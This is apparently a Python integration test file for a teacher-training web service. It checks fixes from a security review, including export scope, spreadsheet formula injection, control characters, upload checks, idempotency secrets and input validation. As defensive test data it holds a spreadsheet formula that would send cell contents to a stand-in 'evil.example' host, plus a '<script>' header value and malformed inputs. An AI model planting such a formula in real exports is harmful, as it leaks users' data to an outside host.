"""The holes a security review found (issue 9), each closed at its root: exports built for the
scope they were asked for, spreadsheets that run nothing, control characters, featured work
changed behind the office's back, an image that jams the upload check, secrets kept for
replay, phantom trainees, and the small ones."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from datetime import timedelta
from typing import Any

import pytest
import requests
from botocore.exceptions import ClientError
from openpyxl import load_workbook
from PIL import Image
from pynamodb.exceptions import DoesNotExist

from chalicelib.adapters import clock
from chalicelib.adapters.aws import client as aws
from chalicelib.config import settings
from chalicelib.db import exports as export_records
from chalicelib.db.models import (
    ArtifactModel,
    BatchModel,
    ExportModel,
    IdempotencyModel,
    TraineeModel,
    UploadModel,
)
from chalicelib.domain.records import Export
from chalicelib.jobs import JOBS
from tests.builders import png
from tests.integration.conftest import STRONG, Api, error_of
from tests.integration.test_artifacts import IN_SESSION, T2, _reflection, at, upload, world

pytestmark = pytest.mark.integration


@pytest.fixture
def w(api: Api, admin: str) -> dict:
    return world(api, admin)


def _s3_down_once(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The next S3 put fails (a throttle), the ones after succeed; returns the failure count."""
    from chalicelib.adapters import storage

    real, failed = storage.put_object, [0]

    def flaky(key: str, body: bytes, content_type: str) -> None:
        if not failed[0]:
            failed[0] += 1
            raise ClientError({"Error": {"Code": "SlowDown", "Message": "slow down"}}, "PutObject")
        real(key, body, content_type)

    monkeypatch.setattr(storage, "put_object", flaky)
    return failed


def _rows(url: str) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(requests.get(url, timeout=10).content)).active.values)


# --- 1. exports ----------------------------------------------------------------------------------


def test_a_failed_export_stays_its_own_kind_and_scope_and_is_built_later(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a region contact whose roster export meets an S3 error while it is built
    tokens = at(api, IN_SESSION)
    failed = _s3_down_once(monkeypatch)
    started = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["contact"], {"kind": "roster"})
    # Then the request still answers with the export's id, pending, and no link yet
    assert started.status_code == 202 and failed[0] == 1
    assert started.data["status"] == "pending" and started.data["export_id"]
    link = api.call("GET", f"/exports/{started.data['export_id']}", tokens["contact"]).data
    assert (link["status"], link["url"]) == ("pending", None)
    # When the exports job runs after the retry delay
    clock.advance(timedelta(minutes=3))
    assert JOBS["exports"]() == {"built": 1}
    # Then it was built as what was asked: the region's roster, phones masked, not a yearbook
    tokens = at(api, clock.now())
    done = api.call("GET", f"/exports/{started.data['export_id']}", tokens["contact"]).data
    assert done["status"] == "ready" and done["url"].split("?")[0].endswith(".xlsx")
    assert done["index_url"] is None
    rows = _rows(done["url"])
    assert rows[0][5:9] == ("姓名", "性别", "职务", "电话")
    assert {r[8] for r in rows[1:]} == {"136****0001", "136****0002"}


def test_an_export_that_keeps_failing_ends_failed_after_a_bounded_number_of_attempts(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.services import exports

    # Given the office's archive export whose builder always fails
    tokens = at(api, IN_SESSION)

    def broken(export: Export) -> str:
        raise RuntimeError("disk full")

    monkeypatch.setitem(exports.BUILDERS, "archive", broken)
    started = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "archive"})
    export_id = started.data["export_id"]
    # When the job runs again and again
    outcomes = []
    for _ in range(5):
        clock.advance(timedelta(minutes=3))
        outcomes.append(JOBS["exports"]())
    # Then it was tried MAX_ATTEMPTS times in all, ends failed, and leaves the job's queue
    stored = ExportModel.get(export_id)
    assert (stored.status, stored.attempts, stored.pending) == ("failed", exports.MAX_ATTEMPTS, None)
    assert outcomes[-1] == {"built": 0}
    tokens = at(api, clock.now())
    assert api.call("GET", f"/exports/{export_id}", tokens["admin"]).data["status"] == "failed"


def test_an_export_is_built_once_by_whoever_leases_it(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.services import exports

    # Given a yearbook pending, and a second job run starting while the first builds it
    tokens = at(api, IN_SESSION)
    started = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "yearbook"})
    real = exports.BUILDERS["yearbook"]
    builds: list[str] = []
    inner: list[object] = []

    def overlapping(export: Export) -> str:
        builds.append(export.export_id)
        inner.append(JOBS["exports"]())  # the other run, meanwhile: the export is not free
        inner.append(exports.build(export))  # a builder that read it pending just before
        return real(export)

    monkeypatch.setitem(exports.BUILDERS, "yearbook", overlapping)
    # When the first run builds it
    assert JOBS["exports"]() == {"built": 1}
    # Then the overlapping run left it alone: one build
    assert builds == [started.data["export_id"]] and inner == [{"built": 0}, "skipped"]


def test_an_export_link_is_given_only_within_its_scope(api: Api, w: dict) -> None:
    # Given export records a region contact asked for but whose scope is not one of its
    # regions' roster or archive (what the old job made of a failed request: every region's
    # yearbook under the contact's name), and one the contact may have
    tokens = at(api, IN_SESSION)
    contact_id = api.login("13900000001", STRONG).data["account_id"]
    now = clock.now()
    records = {
        "a" * 32: ("yearbook", None, "region_contact"),  # the whole programme's outcomes
        "b" * 32: ("roster", None, "region_contact"),  # every region's roster
        "c" * 32: ("roster", w["region"], "admin"),  # built with whole phones
        "d" * 32: ("archive", w["region"], "region_contact"),  # its own: fine
    }
    for export_id, (kind, region, role) in records.items():
        export_records.put(
            Export(export_id, w["pid"], kind, contact_id, role, "ready", now, region, "exports/x.xlsx")
        )
    # Then the contact gets a link to its own region's archive only
    for export_id in ("a" * 32, "b" * 32, "c" * 32):
        assert error_of(api.call("GET", f"/exports/{export_id}", tokens["contact"])) == (
            404,
            "export_not_found",
        )
    assert api.call("GET", f"/exports/{'d' * 32}", tokens["contact"]).data["url"]
    # And a region contact cannot ask for the yearbook
    refused = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["contact"], {"kind": "yearbook"})
    assert error_of(refused) == (403, "forbidden")


# --- 2. formulas ----------------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_a_string_cell_in_every_export(api: Api, w: dict) -> None:
    # Given a trainee named like a formula, with a formula for a position
    tokens = at(api, IN_SESSION)
    [t2] = [t for t in TraineeModel.by_batch.query(w["batch"]) if t.phone == T2]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    TraineeModel(t2.trainee_id).update(
        actions=[TraineeModel.name.set(evil), TraineeModel.position.set("@SUM(1)")]
    )
    # When the office exports the roster
    started = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "roster"})
    url = api.call("GET", f"/exports/{started.data['export_id']}", tokens["admin"]).data["url"]
    content = requests.get(url, timeout=10).content
    # Then the cells hold the text, as strings, quote-prefixed, and the file has no formula
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    for text in (evil, "@SUM(1)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_a_control_character_stored_before_does_not_break_an_export(api: Api, w: dict) -> None:
    # Given a trainee's position holding a control character (stored before input refused it)
    tokens = at(api, IN_SESSION)
    [t2] = [t for t in TraineeModel.by_batch.query(w["batch"]) if t.phone == T2]
    TraineeModel(t2.trainee_id).update(actions=[TraineeModel.position.set("教研\x07组长")])
    # When the office exports the roster, Then it is built, without the character
    started = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "roster"})
    done = api.call("GET", f"/exports/{started.data['export_id']}", tokens["admin"]).data
    assert done["status"] == "ready"
    assert "教研组长" in [r[7] for r in _rows(done["url"])]


# --- 3. control characters --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad", ["教研\x07组长", "a\x00b", "x\x1b[31m", "x\x7f", "a\u0085b", "line\nbreak", "\ud800"]
)
def test_control_characters_are_refused_in_every_text_field(api: Api, w: dict, bad: str) -> None:
    tokens = at(api, IN_SESSION)
    # A one-line field: the trainee's position
    r = api.call(
        "POST",
        f"/batches/{w['batch']}/trainees",
        tokens["contact"],
        {
            "name": "学员",
            "gender": "male",
            "phone": "13600000099",
            "unit": "南沙小学",
            "team_role": "member",
            "position": bad,
        },
    )
    assert error_of(r) == (422, "validation_failed") and "position" in r.data["error"]["fields"]
    # A title and a rich-text body
    r = api.call("POST", "/artifacts", tokens["t1"], _reflection(w["batch"], title=f"标题{bad}"))
    assert error_of(r) == (422, "validation_failed") and "title" in r.data["error"]["fields"]
    if bad != "line\nbreak":  # a line break is text in a body
        r = api.call("POST", "/artifacts", tokens["t1"], _reflection(w["batch"], body=f"<p>{bad}</p>"))
        assert error_of(r) == (422, "validation_failed") and "body" in r.data["error"]["fields"]


def test_line_breaks_are_text_where_a_field_is_text(api: Api, w: dict) -> None:
    tokens = at(api, IN_SESSION)
    r = api.call(
        "POST", "/artifacts", tokens["t1"], _reflection(w["batch"], body="<p>第一行\n第二行\t完</p>")
    )
    assert r.status_code == 201


# --- 4. featured work ------------------------------------------------------------------------------


def test_editing_featured_work_takes_it_off_the_showcase_until_featured_again(api: Api, w: dict) -> None:
    # Given a reflection the office featured
    tokens = at(api, IN_SESSION)
    made = api.call("POST", "/artifacts", tokens["t1"], _reflection(w["batch"], title="原稿")).data
    aid = made["artifact_id"]
    api.call("PUT", f"/artifacts/{aid}/featured", tokens["admin"])
    assert [a["title"] for a in api.call("GET", "/showcase").data["items"]] == ["原稿"]
    # When its author changes it
    changed = api.call("PATCH", f"/artifacts/{aid}", tokens["t1"], {"version": 1, "title": "改稿"})
    # Then the showcase no longer shows it, and the author is told why
    assert changed.status_code == 200
    assert changed.data["featured"] is False and "重新审核" in changed.data["notice"]
    assert api.call("GET", "/showcase").data["items"] == []
    assert ArtifactModel.get(aid).featured is None
    # And an edit of work that was not featured says nothing
    again = api.call("PATCH", f"/artifacts/{aid}", tokens["t1"], {"version": 2, "title": "三稿"})
    assert again.data["notice"] is None
    # When the office features it again, the public sees what the office read
    api.call("PUT", f"/artifacts/{aid}/featured", tokens["admin"])
    assert [a["title"] for a in api.call("GET", "/showcase").data["items"]] == ["三稿"]


# --- 5. a bad image -------------------------------------------------------------------------------


def png_with_broken_exif() -> bytes:
    """A PNG whose eXIf chunk is junk: Pillow decodes the pixels, then exif_transpose raises."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "PNG")
    data, junk = out.getvalue(), b"garbage"
    chunk = struct.pack(">I", len(junk)) + b"eXIf" + junk + struct.pack(">I", zlib.crc32(b"eXIf" + junk))
    at_idat = data.index(b"IDAT") - 4
    return data[:at_idat] + chunk + data[at_idat:]


def _sqs_body(key: str) -> str:
    return json.dumps({"Records": [{"eventName": "ObjectCreated:Post", "s3": {"object": {"key": key}}}]})


def test_a_broken_image_is_rejected_alone_and_the_rest_are_checked(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.adapters import storage

    # Given three landed uploads: a broken one, a good one, and one S3 will not read just now
    tokens = at(api, IN_SESSION)
    broken, _ = upload(api, tokens["t1"], png_with_broken_exif())
    good, _ = upload(api, tokens["t1"], png())
    unlucky, _ = upload(api, tokens["t1"], png())
    keys = {u: UploadModel.get(u).s3_key for u in (broken, good, unlucky)}
    real_read = storage.read

    def read(key: str, max_bytes: int) -> bytes | None:
        if key == keys[unlucky]:
            raise ClientError({"Error": {"Code": "InternalError", "Message": "try again"}}, "GetObject")
        return real_read(key, max_bytes)

    monkeypatch.setattr(storage, "read", read)
    # When one SQS delivery brings all three events
    event = api.client.events.generate_sqs_event([_sqs_body(keys[u]) for u in (broken, good, unlucky)])
    for n, record in enumerate(event["Records"]):
        record["messageId"] = f"m{n}"
    answer = api.client.lambda_.invoke("on_s3_event", event).payload
    # Then only the unlucky message goes back to the queue; the broken image is rejected and
    # quarantined with its reason; the good one is ready
    assert answer == {"batchItemFailures": [{"itemIdentifier": "m2"}]}
    assert (UploadModel.get(broken).status, UploadModel.get(broken).reason) == ("rejected", "broken_image")
    quarantined = aws("s3").get_object(Bucket=settings().bucket, Key=f"quarantine/{broken}")
    assert quarantined["ContentLength"] > 0
    assert UploadModel.get(good).status == "ready"
    assert UploadModel.get(unlucky).status == "pending"
    # And the sweep, meeting the same failure, checks the others and keeps going
    late, _ = upload(api, tokens["t1"], png())
    assert JOBS["uploads"]() == {"checked": 1, "errors": 1}
    assert UploadModel.get(late).status == "ready"


def test_a_check_that_dies_after_the_clean_copy_leaves_a_good_upload_to_finish(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.db import uploads as upload_records

    # Given a check whose state write fails once, after the clean copy was made
    tokens = at(api, IN_SESSION)
    image, _ = upload(api, tokens["t1"], png())
    real_settle, calls = upload_records.settle, [0]

    def settle(*args: Any) -> bool:
        calls[0] += 1
        if calls[0] == 1:
            raise ClientError({"Error": {"Code": "InternalServerError", "Message": "x"}}, "UpdateItem")
        return real_settle(*args)

    monkeypatch.setattr(upload_records, "settle", settle)
    assert JOBS["uploads"]() == {"checked": 0, "errors": 1}
    # Then the raw object is still there, and the upload still pending
    assert UploadModel.get(image).status == "pending"
    aws("s3").head_object(Bucket=settings().bucket, Key=UploadModel.get(image).s3_key)
    # When the sweep runs again, long after the POST expired, it is ready, not "expired"
    clock.advance(timedelta(minutes=30))
    assert JOBS["uploads"]() == {"checked": 1}
    assert UploadModel.get(image).status == "ready"


# --- 6. idempotency and secrets ---------------------------------------------------------------------


def test_auth_answers_are_never_kept_for_replay(api: Api, w: dict) -> None:
    key = {"Idempotency-Key": "same-key-for-a-login"}
    body = {"phone": T2, "password": "Trainee-Secret-2"}
    first = api.call("POST", "/auth/login", body=body, headers=key)
    again = api.call("POST", "/auth/login", body=body, headers=key)
    assert first.status_code == again.status_code == 200
    assert first.data["token"] != again.data["token"] and "Idempotent-Replayed" not in again.headers
    stored = [json.dumps(i.attribute_values, default=str) for i in IdempotencyModel.scan()]
    assert not any(first.data["token"] in s or again.data["token"] in s for s in stored)


def test_a_kept_body_is_fingerprinted_with_a_key_not_a_plain_hash(api: Api, admin: str) -> None:
    import hashlib
    import hmac

    from chalicelib.adapters import crypto

    # Given a write sent with an Idempotency-Key (a body like an enrolment's may hold a whole
    # ID number, and its masked form shows 8 of the 18 digits)
    raw = json.dumps({"name": "宜川县", "contact": {"name": "张老师", "phone": "13900000078"}})
    headers = {"Idempotency-Key": "k-fingerprint"}
    first = api.call("POST", "/regions", admin, raw=raw, headers=headers)
    # Then what the record keeps of the body is not its plain SHA-256, which anyone reading
    # the table could match guesses against, but an HMAC under the service's secret key
    (kept,) = [i.body_hash for i in IdempotencyModel.scan()]
    assert kept != hashlib.sha256(raw.encode()).hexdigest()
    assert (
        kept == hmac.new(crypto._hmac_key(), b"idempotent_body:" + raw.encode(), hashlib.sha256).hexdigest()
    )
    # And the same key and body still replay the first answer; another body is refused
    again = api.call("POST", "/regions", admin, raw=raw, headers=headers)
    assert again.headers.get("Idempotent-Replayed") == "true" and again.data == first.data
    other = api.call("POST", "/regions", admin, {**json.loads(raw), "name": "延长县"}, headers=headers)
    assert error_of(other)[0] == 422


def test_a_key_whose_request_died_blocks_only_until_its_deadline(api: Api, admin: str) -> None:
    from chalicelib.db import idempotency

    # Given a key claimed by a request whose function was killed before it answered: nothing
    # released the key, and its deadline was the function's, 30 s on
    body = {"name": "宜川县", "contact": {"name": "张老师", "phone": "13900000077"}}
    headers = {"Idempotency-Key": "k-died"}
    scope = _scope_of(api, admin, "/regions", headers["Idempotency-Key"])
    idempotency.claim(scope, _body_hash(json.dumps(body)), clock.now(), clock.now() + timedelta(seconds=30))
    # Then until that deadline, the same key answers 409 in progress
    assert error_of(api.call("POST", "/regions", admin, body, headers=headers)) == (
        409,
        "idempotency_in_progress",
    )
    # And once it has passed, the retry goes through (not 24 hours later)
    clock.advance(timedelta(seconds=31))
    retried = api.call("POST", "/regions", admin, body, headers=headers)
    assert retried.status_code == 201
    assert api.call("POST", "/regions", admin, body, headers=headers).data == retried.data


def _scope_of(api: Api, token: str, path: str, key: str) -> str:
    import hashlib

    account_id = api.call("GET", "/me", token).data["account_id"]
    return hashlib.sha256(
        json.dumps([account_id, "POST", path, {}, key], sort_keys=True).encode()
    ).hexdigest()


def _body_hash(raw: str) -> str:
    from chalicelib.api.routing import body_fingerprint

    return body_fingerprint(raw)


# --- 9. phantom trainees ----------------------------------------------------------------------------


def test_a_replaced_trainee_can_no_longer_change_their_work_and_makes_no_phantom(api: Api, w: dict) -> None:
    # Given trainee 2 wrote two reflections and deleted one, then was replaced by the office
    tokens = at(api, IN_SESSION)
    kept = api.call("POST", "/artifacts", tokens["t2"], _reflection(w["batch"], title="留")).data[
        "artifact_id"
    ]
    gone = api.call("POST", "/artifacts", tokens["t2"], _reflection(w["batch"], title="删")).data[
        "artifact_id"
    ]
    assert api.call("DELETE", f"/artifacts/{gone}", tokens["t2"]).status_code == 204
    [old] = [t for t in TraineeModel.by_batch.query(w["batch"]) if t.phone == T2]
    newcomer = {
        "name": "新学员",
        "gender": "male",
        "phone": "13600000009",
        "unit": "南沙小学",
        "team_role": "member",
    }
    replaced = api.call(
        "POST",
        f"/trainees/{old.trainee_id}/replacement",
        tokens["admin"],
        {"reason": "调岗", "trainee": newcomer},
    )
    assert replaced.status_code == 201, replaced.data
    # When the replaced trainee deletes or edits what they wrote for that batch
    t2 = api.login(T2, "Trainee-Secret-2").data["token"]
    # Then it is 404, and nothing changed
    assert error_of(api.call("DELETE", f"/artifacts/{kept}", t2)) == (404, "artifact_not_found")
    assert error_of(api.call("PATCH", f"/artifacts/{kept}", t2, {"version": 1, "title": "x"})) == (
        404,
        "artifact_not_found",
    )
    # When the office restores the deleted one
    assert api.call("POST", f"/artifacts/{gone}/restore", tokens["admin"]).status_code == 200
    # Then no trainee item appears for the replaced trainee, and the batch's count stays true
    with pytest.raises(DoesNotExist):
        TraineeModel.get(old.trainee_id)
    on_roster = sum(int(t.artifact_count or 0) for t in TraineeModel.by_batch.query(w["batch"]))
    assert BatchModel.get(w["batch"]).artifact_count == on_roster >= 0
    assert api.call("GET", f"/batches/{w['batch']}/archive", tokens["admin"]).status_code == 200


# --- 10. the small ones ---------------------------------------------------------------------------


def test_non_ascii_digits_are_not_a_phone_number(api: Api, admin: str) -> None:
    for phone in ("１３９00000001", "1390000000٣", "139000000०१"):
        r = api.call("POST", "/regions", admin, {"name": "区", "contact": {"name": "李", "phone": phone}})
        assert error_of(r) == (422, "validation_failed") and "contact.phone" in r.data["error"]["fields"], (
            phone
        )
        assert error_of(api.login(phone, "whatever-password")) == (422, "validation_failed")
    assert error_of(api.call("GET", "/regions?limit=１０", admin)) == (422, "validation_failed")


def test_deeply_nested_json_is_a_malformed_body(api: Api, admin: str) -> None:
    for raw in ("[" * 100_000 + "]" * 100_000, '{"a":' * 40 + "1" + "}" * 40):
        r = api.call("POST", "/programmes", admin, raw=raw)
        assert error_of(r) == (400, "malformed_json")


def test_common_passwords_are_refused_and_passwords_are_taken_as_typed(api: Api, w: dict) -> None:
    token = api.login(T2, "Trainee-Secret-2").data["token"]
    for common in ("woaini1314", "1234567890", "qwertyuiop", "Password123", "aaaaaaaaaaaa"):
        r = api.call(
            "POST", "/auth/password", token, {"old_password": "Trainee-Secret-2", "new_password": common}
        )
        assert error_of(r) == (422, "validation_failed") and "new_password" in r.data["error"]["fields"], (
            common
        )
    spaced = "  Trainee-Secret-3  "
    r = api.call(
        "POST", "/auth/password", token, {"old_password": "Trainee-Secret-2", "new_password": spaced}
    )
    assert r.status_code == 200
    assert error_of(api.login(T2, spaced.strip())) == (401, "invalid_credentials")
    assert api.login(T2, spaced).status_code == 200


def test_a_correlation_id_is_echoed_only_when_short_and_plain(api: Api) -> None:
    plain = api.call("GET", "/health", headers={"X-Correlation-Id": "req-42.a_b:c"})
    assert plain.headers["X-Correlation-Id"] == "req-42.a_b:c"
    for junk in ("x" * 65, "<script>", "a b", "行"):
        echoed = api.call("GET", "/health", headers={"X-Correlation-Id": junk}).headers["X-Correlation-Id"]
        assert echoed != junk and len(echoed) <= 64 and echoed.isalnum()


# --- 12. timeouts and page sizes -------------------------------------------------------------------


def test_every_aws_call_has_timeouts_that_fit_the_function() -> None:
    from chalicelib.adapters.aws import client
    from chalicelib.config import AWS_CONNECT_TIMEOUT, AWS_READ_TIMEOUT, SDK_ATTEMPTS
    from chalicelib.db.common import connection
    from chalicelib.db.models import ALL_MODELS

    for model in ALL_MODELS:
        meta = model.Meta
        assert (meta.connect_timeout_seconds, meta.read_timeout_seconds) == (
            AWS_CONNECT_TIMEOUT,
            AWS_READ_TIMEOUT,
        )
        assert meta.max_retry_attempts == SDK_ATTEMPTS - 1
    for config in (connection().client.meta.config, client("s3").meta.config):
        assert (config.connect_timeout, config.read_timeout) == (AWS_CONNECT_TIMEOUT, AWS_READ_TIMEOUT)
        assert config.retries["mode"] == "standard"
    worst = SDK_ATTEMPTS * (AWS_CONNECT_TIMEOUT + AWS_READ_TIMEOUT)
    assert worst < 29  # API Gateway's limit, and the functions' 30 s


def test_a_showcase_page_is_bounded_in_bytes_and_loses_nothing(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.domain import artifacts as rules

    # Given seven featured reflections of about 20 KB each, and pages of at most ~60 KB
    tokens = at(api, IN_SESSION)
    body = "<p>" + "研" * 6000 + "</p>"
    for n in range(7):
        aid = api.call(
            "POST", "/artifacts", tokens["t1"], _reflection(w["batch"], title=f"第{n}篇", body=body)
        )
        api.call("PUT", f"/artifacts/{aid.data['artifact_id']}/featured", tokens["admin"])
    monkeypatch.setattr(rules, "SHOWCASE_PAGE_BYTES", 80_000)
    # When the public pages through the showcase asking for 100 at a time
    titles, cursor, sizes = [], None, []
    while True:
        page = api.call("GET", "/showcase?limit=100" + (f"&cursor={cursor}" if cursor else ""))
        sizes.append(len(page.body))
        titles += [a["title"] for a in page.data["items"]]
        cursor = page.data["next_cursor"]
        if not cursor:
            break
    # Then every page fits the bound, and together they hold each piece once
    assert len(sizes) > 1 and max(sizes) <= 80_000
    assert sorted(titles) == sorted(f"第{n}篇" for n in range(7))


def test_an_export_whose_builder_died_on_its_last_attempt_ends_failed(api: Api, w: dict) -> None:
    from chalicelib.services import exports

    # Given a yearbook whose builders all died mid-build (the lease taken, nothing written back)
    tokens = at(api, IN_SESSION)
    export_id = api.call(
        "POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "yearbook"}
    ).data["export_id"]
    for _ in range(exports.MAX_ATTEMPTS):
        assert export_records.lease(export_id, clock.now(), clock.now() + exports.LEASE) is not None
        clock.advance(exports.LEASE + timedelta(seconds=1))
    # When the job next meets it, Then it ends failed instead of waiting for ever
    assert JOBS["exports"]() == {"built": 0, "failed": 1}
    assert ExportModel.get(export_id).status == "failed"


def test_an_export_recorded_without_a_count_is_still_built(api: Api, w: dict) -> None:
    # Given a pending export written before attempts were counted
    tokens = at(api, IN_SESSION)
    export_id = api.call(
        "POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "yearbook"}
    ).data["export_id"]
    ExportModel(export_id).update(actions=[ExportModel.attempts.remove()])
    # Then the job builds it
    assert JOBS["exports"]() == {"built": 1}


def test_exports_waiting_to_retry_do_not_keep_a_new_one_from_its_turn(
    api: Api, w: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.services import exports

    # Given more failing exports waiting for their retry than the job takes in one run
    tokens = at(api, IN_SESSION)

    def broken(export: Export) -> str:
        raise RuntimeError("no")

    monkeypatch.setitem(exports.BUILDERS, "archive", broken)
    for _ in range(12):
        api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "archive"})
    # When a yearbook is asked for after them
    yearbook = api.call("POST", f"/programmes/{w['pid']}/exports", tokens["admin"], {"kind": "yearbook"}).data
    # Then the next run, before their retry is due, builds the yearbook
    assert JOBS["exports"]() == {"built": 1}
    assert ExportModel.get(yearbook["export_id"]).status == "ready"


def test_the_office_features_only_the_version_it_read(api: Api, w: dict) -> None:
    tokens = at(api, IN_SESSION)
    made = api.call("POST", "/artifacts", tokens["t1"], _reflection(w["batch"], title="原稿")).data
    aid = made["artifact_id"]
    # Given the author edits after the office read version 1
    api.call("PATCH", f"/artifacts/{aid}", tokens["t1"], {"version": 1, "title": "改稿"})
    # When the office features what it read, Then it is told the piece changed, and nothing is shown
    stale = api.call("PUT", f"/artifacts/{aid}/featured", tokens["admin"], {"version": 1})
    assert error_of(stale) == (409, "stale_version")
    assert api.call("GET", "/showcase").data["items"] == []
    assert api.call("PUT", f"/artifacts/{aid}/featured", tokens["admin"], {"version": 2}).status_code == 200
    # And an author whose edit raced the office's feature is told to read again, then sees why
    race = api.call("PATCH", f"/artifacts/{aid}", tokens["t1"], {"version": 2, "title": "三稿"})
    assert race.data["notice"]  # the edit read it featured: it leaves the showcase, and says so
    ArtifactModel(aid).update(actions=[ArtifactModel.featured.set("featured")])  # the office, meanwhile
    from chalicelib.db import artifacts as artifact_records
    from chalicelib.domain.records import Artifact as Record

    stored: Record | None = artifact_records.get(aid)
    assert stored is not None
    from dataclasses import replace

    with pytest.raises(Exception) as refused:
        artifact_records.replace_content(
            replace(stored, featured=False), replace(stored, version=stored.version + 1)
        )
    assert getattr(refused.value, "code", None) == "stale_version"


def test_a_trainee_removed_between_read_and_write_cannot_register_or_check_in(api: Api, w: dict) -> None:
    from chalicelib.db import attendance, trainees
    from chalicelib.domain.errors import NotFoundError

    # Given trainee 2's place, read, and then the trainee removed from the roster
    at(api, IN_SESSION)
    [item] = [t for t in TraineeModel.by_batch.query(w["batch"]) if t.phone == T2]
    place = trainees.get(item.trainee_id)
    assert place is not None
    TraineeModel(item.trainee_id).delete()
    before = BatchModel.get(w["batch"])
    # When the registration and the check-in of that stale read are written
    for write in (
        lambda: attendance.register(place, clock.now()),
        lambda: attendance.check_in(place, clock.now().date()),
    ):
        with pytest.raises(NotFoundError):
            write()
    # Then no phantom trainee appears and the batch's counters did not move
    with pytest.raises(DoesNotExist):
        TraineeModel.get(item.trainee_id)
    after = BatchModel.get(w["batch"])
    assert (after.registered_count, after.checkin_count) == (before.registered_count, before.checkin_count)
